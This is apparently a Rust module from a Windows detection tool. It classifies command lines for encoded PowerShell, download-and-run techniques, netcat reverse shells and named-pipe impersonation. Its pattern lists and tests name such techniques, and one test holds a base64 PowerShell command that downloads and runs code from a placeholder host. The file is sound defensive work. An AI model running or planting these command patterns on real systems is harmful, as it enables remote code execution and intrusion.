//! What a command line does on Windows.
//!
//! There is no one way in which Windows cuts a command line into arguments, so this looks at the text: in lower case
//! and without the carets by which cmd escapes characters.

use crate::detect::text::{base_name, quoted, without_suffix};

use super::language::Language;
use super::{Inline, Traits, payload};

/// How much of a command line is looked at, in characters. The registry allows more than anyone writes.
const LONGEST: usize = 32 * 1024;

/// What a command line does.
pub(super) fn traits(line: &str, path: &str) -> Traits {
    let mut traits = Traits::default();
    let line: String = line.chars().take(LONGEST).collect();
    let plain = line.replace('^', "").to_ascii_lowercase();
    let program = if path.is_empty() { program_of(&line) } else { path };
    traits.runs(program);
    if let Some(language) = Language::of_program(program) {
        traits.interpreter = Some(language);
        traits.speaks(language);
    }
    for (word, language) in [
        ("powershell", Language::PowerShell),
        ("pwsh", Language::PowerShell),
        ("cmd.exe", Language::Cmd),
        ("cmd /", Language::Cmd),
        ("%comspec%", Language::Cmd),
        ("mshta", Language::ScriptHost),
        ("wscript", Language::ScriptHost),
        ("cscript", Language::ScriptHost),
    ] {
        if plain.contains(word) {
            traits.speaks(language);
        }
    }
    traits.inline = inline(&plain, traits.interpreter);
    traits.encoded = encoded(&line, &plain);
    let hidden = traits.encoded.is_some().then(|| payload::hidden_text(&line)).flatten();
    traits.download = download(&plain).or_else(|| {
        hidden.as_deref().and_then(|text| download(&format!("powershell {}", text.to_ascii_lowercase())))
    });
    traits.network_shell = network_shell(&plain)
        .or_else(|| hidden.as_deref().and_then(|text| network_shell(&text.to_ascii_lowercase())));
    traits.pipe = pipe(&plain);
    traits
}

/// The program of a command line, as the Service Control Manager would find it at best: what is quoted, else a bare
/// name, else what ends in an extension of programs, else the first word.
pub(super) fn program_of(line: &str) -> &str {
    let line = line.trim_start();
    if let Some(quoted) = line.strip_prefix('"') {
        return quoted.split('"').next().unwrap_or(quoted);
    }
    let first = line.split_whitespace().next().unwrap_or(line);
    if !first.contains(['\\', '/']) {
        return first;
    }
    let lower = line.to_ascii_lowercase();
    let end = [".exe", ".sys", ".dll", ".com", ".bat", ".cmd"]
        .iter()
        .filter_map(|extension| {
            lower.match_indices(extension).map(|(at, found)| at.saturating_add(found.len())).find(|end| {
                lower
                    .get(*end..)
                    .is_some_and(|rest| rest.is_empty() || rest.starts_with([' ', '\t', '"', ',']))
            })
        })
        .min();
    match end.and_then(|end| line.get(..end)) {
        Some(program) => program,
        None => first,
    }
}

/// Code as an argument of an interpreter.
fn inline(plain: &str, interpreter: Option<Language>) -> Option<Inline> {
    let language = interpreter?;
    let code = match language {
        Language::Cmd => [" /c", " /k", " /r", "/c ", "/k "].iter().any(|option| plain.contains(option)),
        // Without `-file`, whatever PowerShell is given is code.
        Language::PowerShell => !plain.contains("-file") && !plain.contains(" -f ") && plain.contains(' '),
        Language::ScriptHost => {
            ["javascript:", "vbscript:", "about:"].iter().any(|word| plain.contains(word))
        }
        Language::Python | Language::Shell => plain.contains(" -c"),
        Language::Perl | Language::Ruby | Language::JavaScript | Language::Lua => plain.contains(" -e"),
        Language::Php => plain.contains(" -r"),
        Language::Awk | Language::Tcl | Language::AppleScript => false,
    };
    code.then_some(Inline { language, risk: None })
}

/// How a line runs encoded or obfuscated code.
fn encoded(line: &str, plain: &str) -> Option<String> {
    let powershell = plain.contains("powershell") || plain.contains("pwsh");
    if powershell && let Some(code) = encoded_command(line) {
        let hidden =
            payload::decode(code).map(|text| format!(", which reads {}", quoted(&text))).unwrap_or_default();
        return Some(format!("gives PowerShell an encoded command{hidden}"));
    }
    for (word, phrase) in [
        ("frombase64string", "decodes base64 in PowerShell code"),
        ("io.compression", "unpacks compressed PowerShell code"),
        ("gzipstream", "unpacks compressed PowerShell code"),
        ("deflatestream", "unpacks compressed PowerShell code"),
        ("windows.forms.clipboard", "hands code over by the clipboard"),
        ("windows.clipboard]::", "hands code over by the clipboard"),
        ("get-clipboard", "hands code over by the clipboard"),
        ("certutil -decode", "decodes a file with certutil"),
        ("certutil.exe -decode", "decodes a file with certutil"),
        ("vbscript:createobject", "hides a command in a VBScript address"),
        ("javascript:a=", "hides a command in a JavaScript address"),
        ("javascript:\"", "hides a command in a JavaScript address"),
    ] {
        if plain.contains(word) {
            return Some(phrase.to_owned());
        }
    }
    let escapes = line.as_bytes().array_windows::<3>().filter(|[before, caret, after]| {
        before.is_ascii_alphanumeric() && *caret == b'^' && after.is_ascii_alphanumeric()
    });
    if escapes.count() >= 3 {
        return Some("breaks words up with carets".to_owned());
    }
    if plain.matches(":~").count() >= 3 {
        return Some("puts its words together from parts of variables".to_owned());
    }
    if powershell && plain.matches("[char]").count() >= 3
        || plain.contains("-join") && plain.contains("[char")
    {
        return Some("puts its code together from single characters".to_owned());
    }
    if plain.contains("set ")
        && plain.contains("&&")
        && plain.contains('%')
        && plain.contains('|')
        && powershell
    {
        return Some("hands PowerShell code over in a variable".to_owned());
    }
    None
}

/// The argument of `-EncodedCommand`, under any of the short forms that PowerShell takes.
fn encoded_command(line: &str) -> Option<&str> {
    let mut words = line.split_whitespace();
    while let Some(word) = words.next() {
        let option = word.trim_matches(['"', '\'', '^']);
        let Some(name) = option.strip_prefix(['-', '/', '\u{2013}', '\u{2014}', '\u{2015}']) else {
            continue;
        };
        let name = name.replace('^', "").to_ascii_lowercase();
        let is_encoded = name == "ec" || !name.is_empty() && "encodedcommand".starts_with(&name);
        if !is_encoded {
            continue;
        }
        let code = words.next()?.trim_matches(['"', '\'']);
        let is_base64 = code.len() >= 8
            && code.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'='));
        if is_base64 {
            return Some(code);
        }
    }
    None
}

/// How a line downloads something and runs it.
fn download(plain: &str) -> Option<String> {
    let has = |words: &[&str]| words.iter().any(|word| plain.contains(word));
    let powershell = has(&["powershell", "pwsh"]);
    let fetches = has(&["downloadstring", "downloaddata", "downloadfile", "net.webclient", "openread("])
        || has(&["invoke-webrequest", "invoke-restmethod", "iwr ", "irm ", "start-bitstransfer"])
            && has(&["http", "\\\\"]);
    if powershell && fetches {
        let runs = has(&[
            "iex",
            "invoke-expression",
            "start-process",
            "saps ",
            "&(",
            "& (",
            "invoke-item",
            ".invoke(",
        ]);
        let tail = if runs { "downloads code and runs it" } else { "downloads something" };
        return Some(format!("{tail} in PowerShell"));
    }
    for (tool, word, phrase) in [
        ("mshta", "http", "runs a remote HTML application with mshta"),
        ("regsvr32", "/i:http", "runs a remote script with regsvr32"),
        ("msiexec", "http", "installs a remote package with msiexec"),
        ("certutil", "urlcache", "downloads with certutil"),
        ("certutil", "verifyctl", "downloads with certutil"),
        ("bitsadmin", "/transfer", "downloads with bitsadmin"),
        ("rundll32", "javascript:", "runs a script with rundll32"),
    ] {
        if plain.contains(tool) && plain.contains(word) {
            return Some(phrase.to_owned());
        }
    }
    let fetches = has(&["curl ", "curl.exe ", "wget "]) && plain.contains("http");
    (fetches && has(&["&", "| ", "start "])).then(|| "downloads with curl or wget and goes on".to_owned())
}

/// How a line ties a shell to the network.
fn network_shell(plain: &str) -> Option<String> {
    let client = plain.contains("net.sockets.tcpclient") || plain.contains("sockets.tcpclient(");
    if client && plain.contains("getstream") {
        return Some("opens a network connection and runs what it receives in PowerShell".to_owned());
    }
    let netcat = ["nc.exe ", "nc64.exe ", "ncat.exe ", "ncat "].iter().any(|tool| plain.contains(tool));
    let shell = [" -e cmd", " -e powershell", " -c cmd", " -e c:\\windows\\system32\\cmd", " --exec"];
    (netcat && shell.iter().any(|option| plain.contains(option)))
        .then(|| "ties a shell to a connection of netcat".to_owned())
}

/// How a line feeds a named pipe: `cmd /c echo x > \\.\pipe\x` makes the service, which is the system, connect to a
/// pipe whose owner then takes on its identity; a DLL's export with `/p:` does the same.
fn pipe(plain: &str) -> Option<String> {
    if let Some((before, after)) = plain.split_once(r"\\.\pipe\") {
        let name = after.split([' ', '"', '\'', '&', '|']).next().unwrap_or_default();
        let writes = before.contains("echo") && before.contains('>');
        return writes.then(|| format!("writes into the named pipe {}", quoted(name)));
    }
    let elevator =
        without_suffix(base_name(program_of(plain)), ".exe") == "rundll32" && plain.contains(",a /p:");
    elevator.then(|| "hands a named pipe to a library's export".to_owned())
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn finds_the_program() {
        for (line, program) in [
            (r#""C:\Program Files\A\a.exe" -k x"#, r"C:\Program Files\A\a.exe"),
            (r"C:\Program Files\A\a.exe -k x", r"C:\Program Files\A\a.exe"),
            (r"%SystemRoot%\System32\svchost.exe -k netsvcs -p", r"%SystemRoot%\System32\svchost.exe"),
            (r"\SystemRoot\System32\drivers\x.sys", r"\SystemRoot\System32\drivers\x.sys"),
            (r"%COMSPEC% /c start powershell.exe -x", "%COMSPEC%"),
            (r"C:\a.example\b.exe", r"C:\a.example\b.exe"),
            ("", ""),
            ("é\u{130}.exe x", "é\u{130}.exe"),
            (r"C:\É\a.exe x", r"C:\É\a.exe"),
        ] {
            assert_eq!(program_of(line), program, "{line}");
        }
    }

    #[test]
    fn reads_encoded_commands_under_any_short_form() {
        let code = "dwBoAG8AYQBtAGkA";
        for (line, expected) in [
            (format!("powershell -e {code}"), Some("which reads \"whoami\"")),
            (format!("powershell.exe -NoP -W hidden -EncodedCommand {code}"), Some("which reads \"whoami\"")),
            (format!("%COMSPEC% /b /c start powershell /enc '{code}'"), Some("which reads \"whoami\"")),
            (format!("backup.exe -e {code}"), None),
            ("powershell -ExecutionPolicy Bypass -File C:\\x.ps1".to_owned(), None),
            ("powershell -Ep Bypass".to_owned(), None),
            ("cmd /c p^o^w^e^r^s^h^e^l^l".to_owned(), Some("carets")),
        ] {
            let found = traits(&line, "").encoded;
            match expected {
                Some(part) => {
                    assert!(found.as_deref().is_some_and(|text| text.contains(part)), "{line}: {found:?}");
                }
                None => assert_eq!(found, None, "{line}"),
            }
        }
    }

    #[test]
    fn sees_downloads_within_encoded_commands() {
        // IEX (New-Object Net.WebClient).DownloadString('http://a/b')
        let code = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYQAvAGIAJwApAA==";
        let found = traits(&format!("powershell -nop -enc {code}"), "powershell");
        assert_eq!(found.download.as_deref(), Some("downloads code and runs it in PowerShell"));
    }

    proptest! {
        #[test]
        fn never_panics(line in ".{0,200}") {
            traits(&line, "");
            program_of(&line);
        }
    }
}
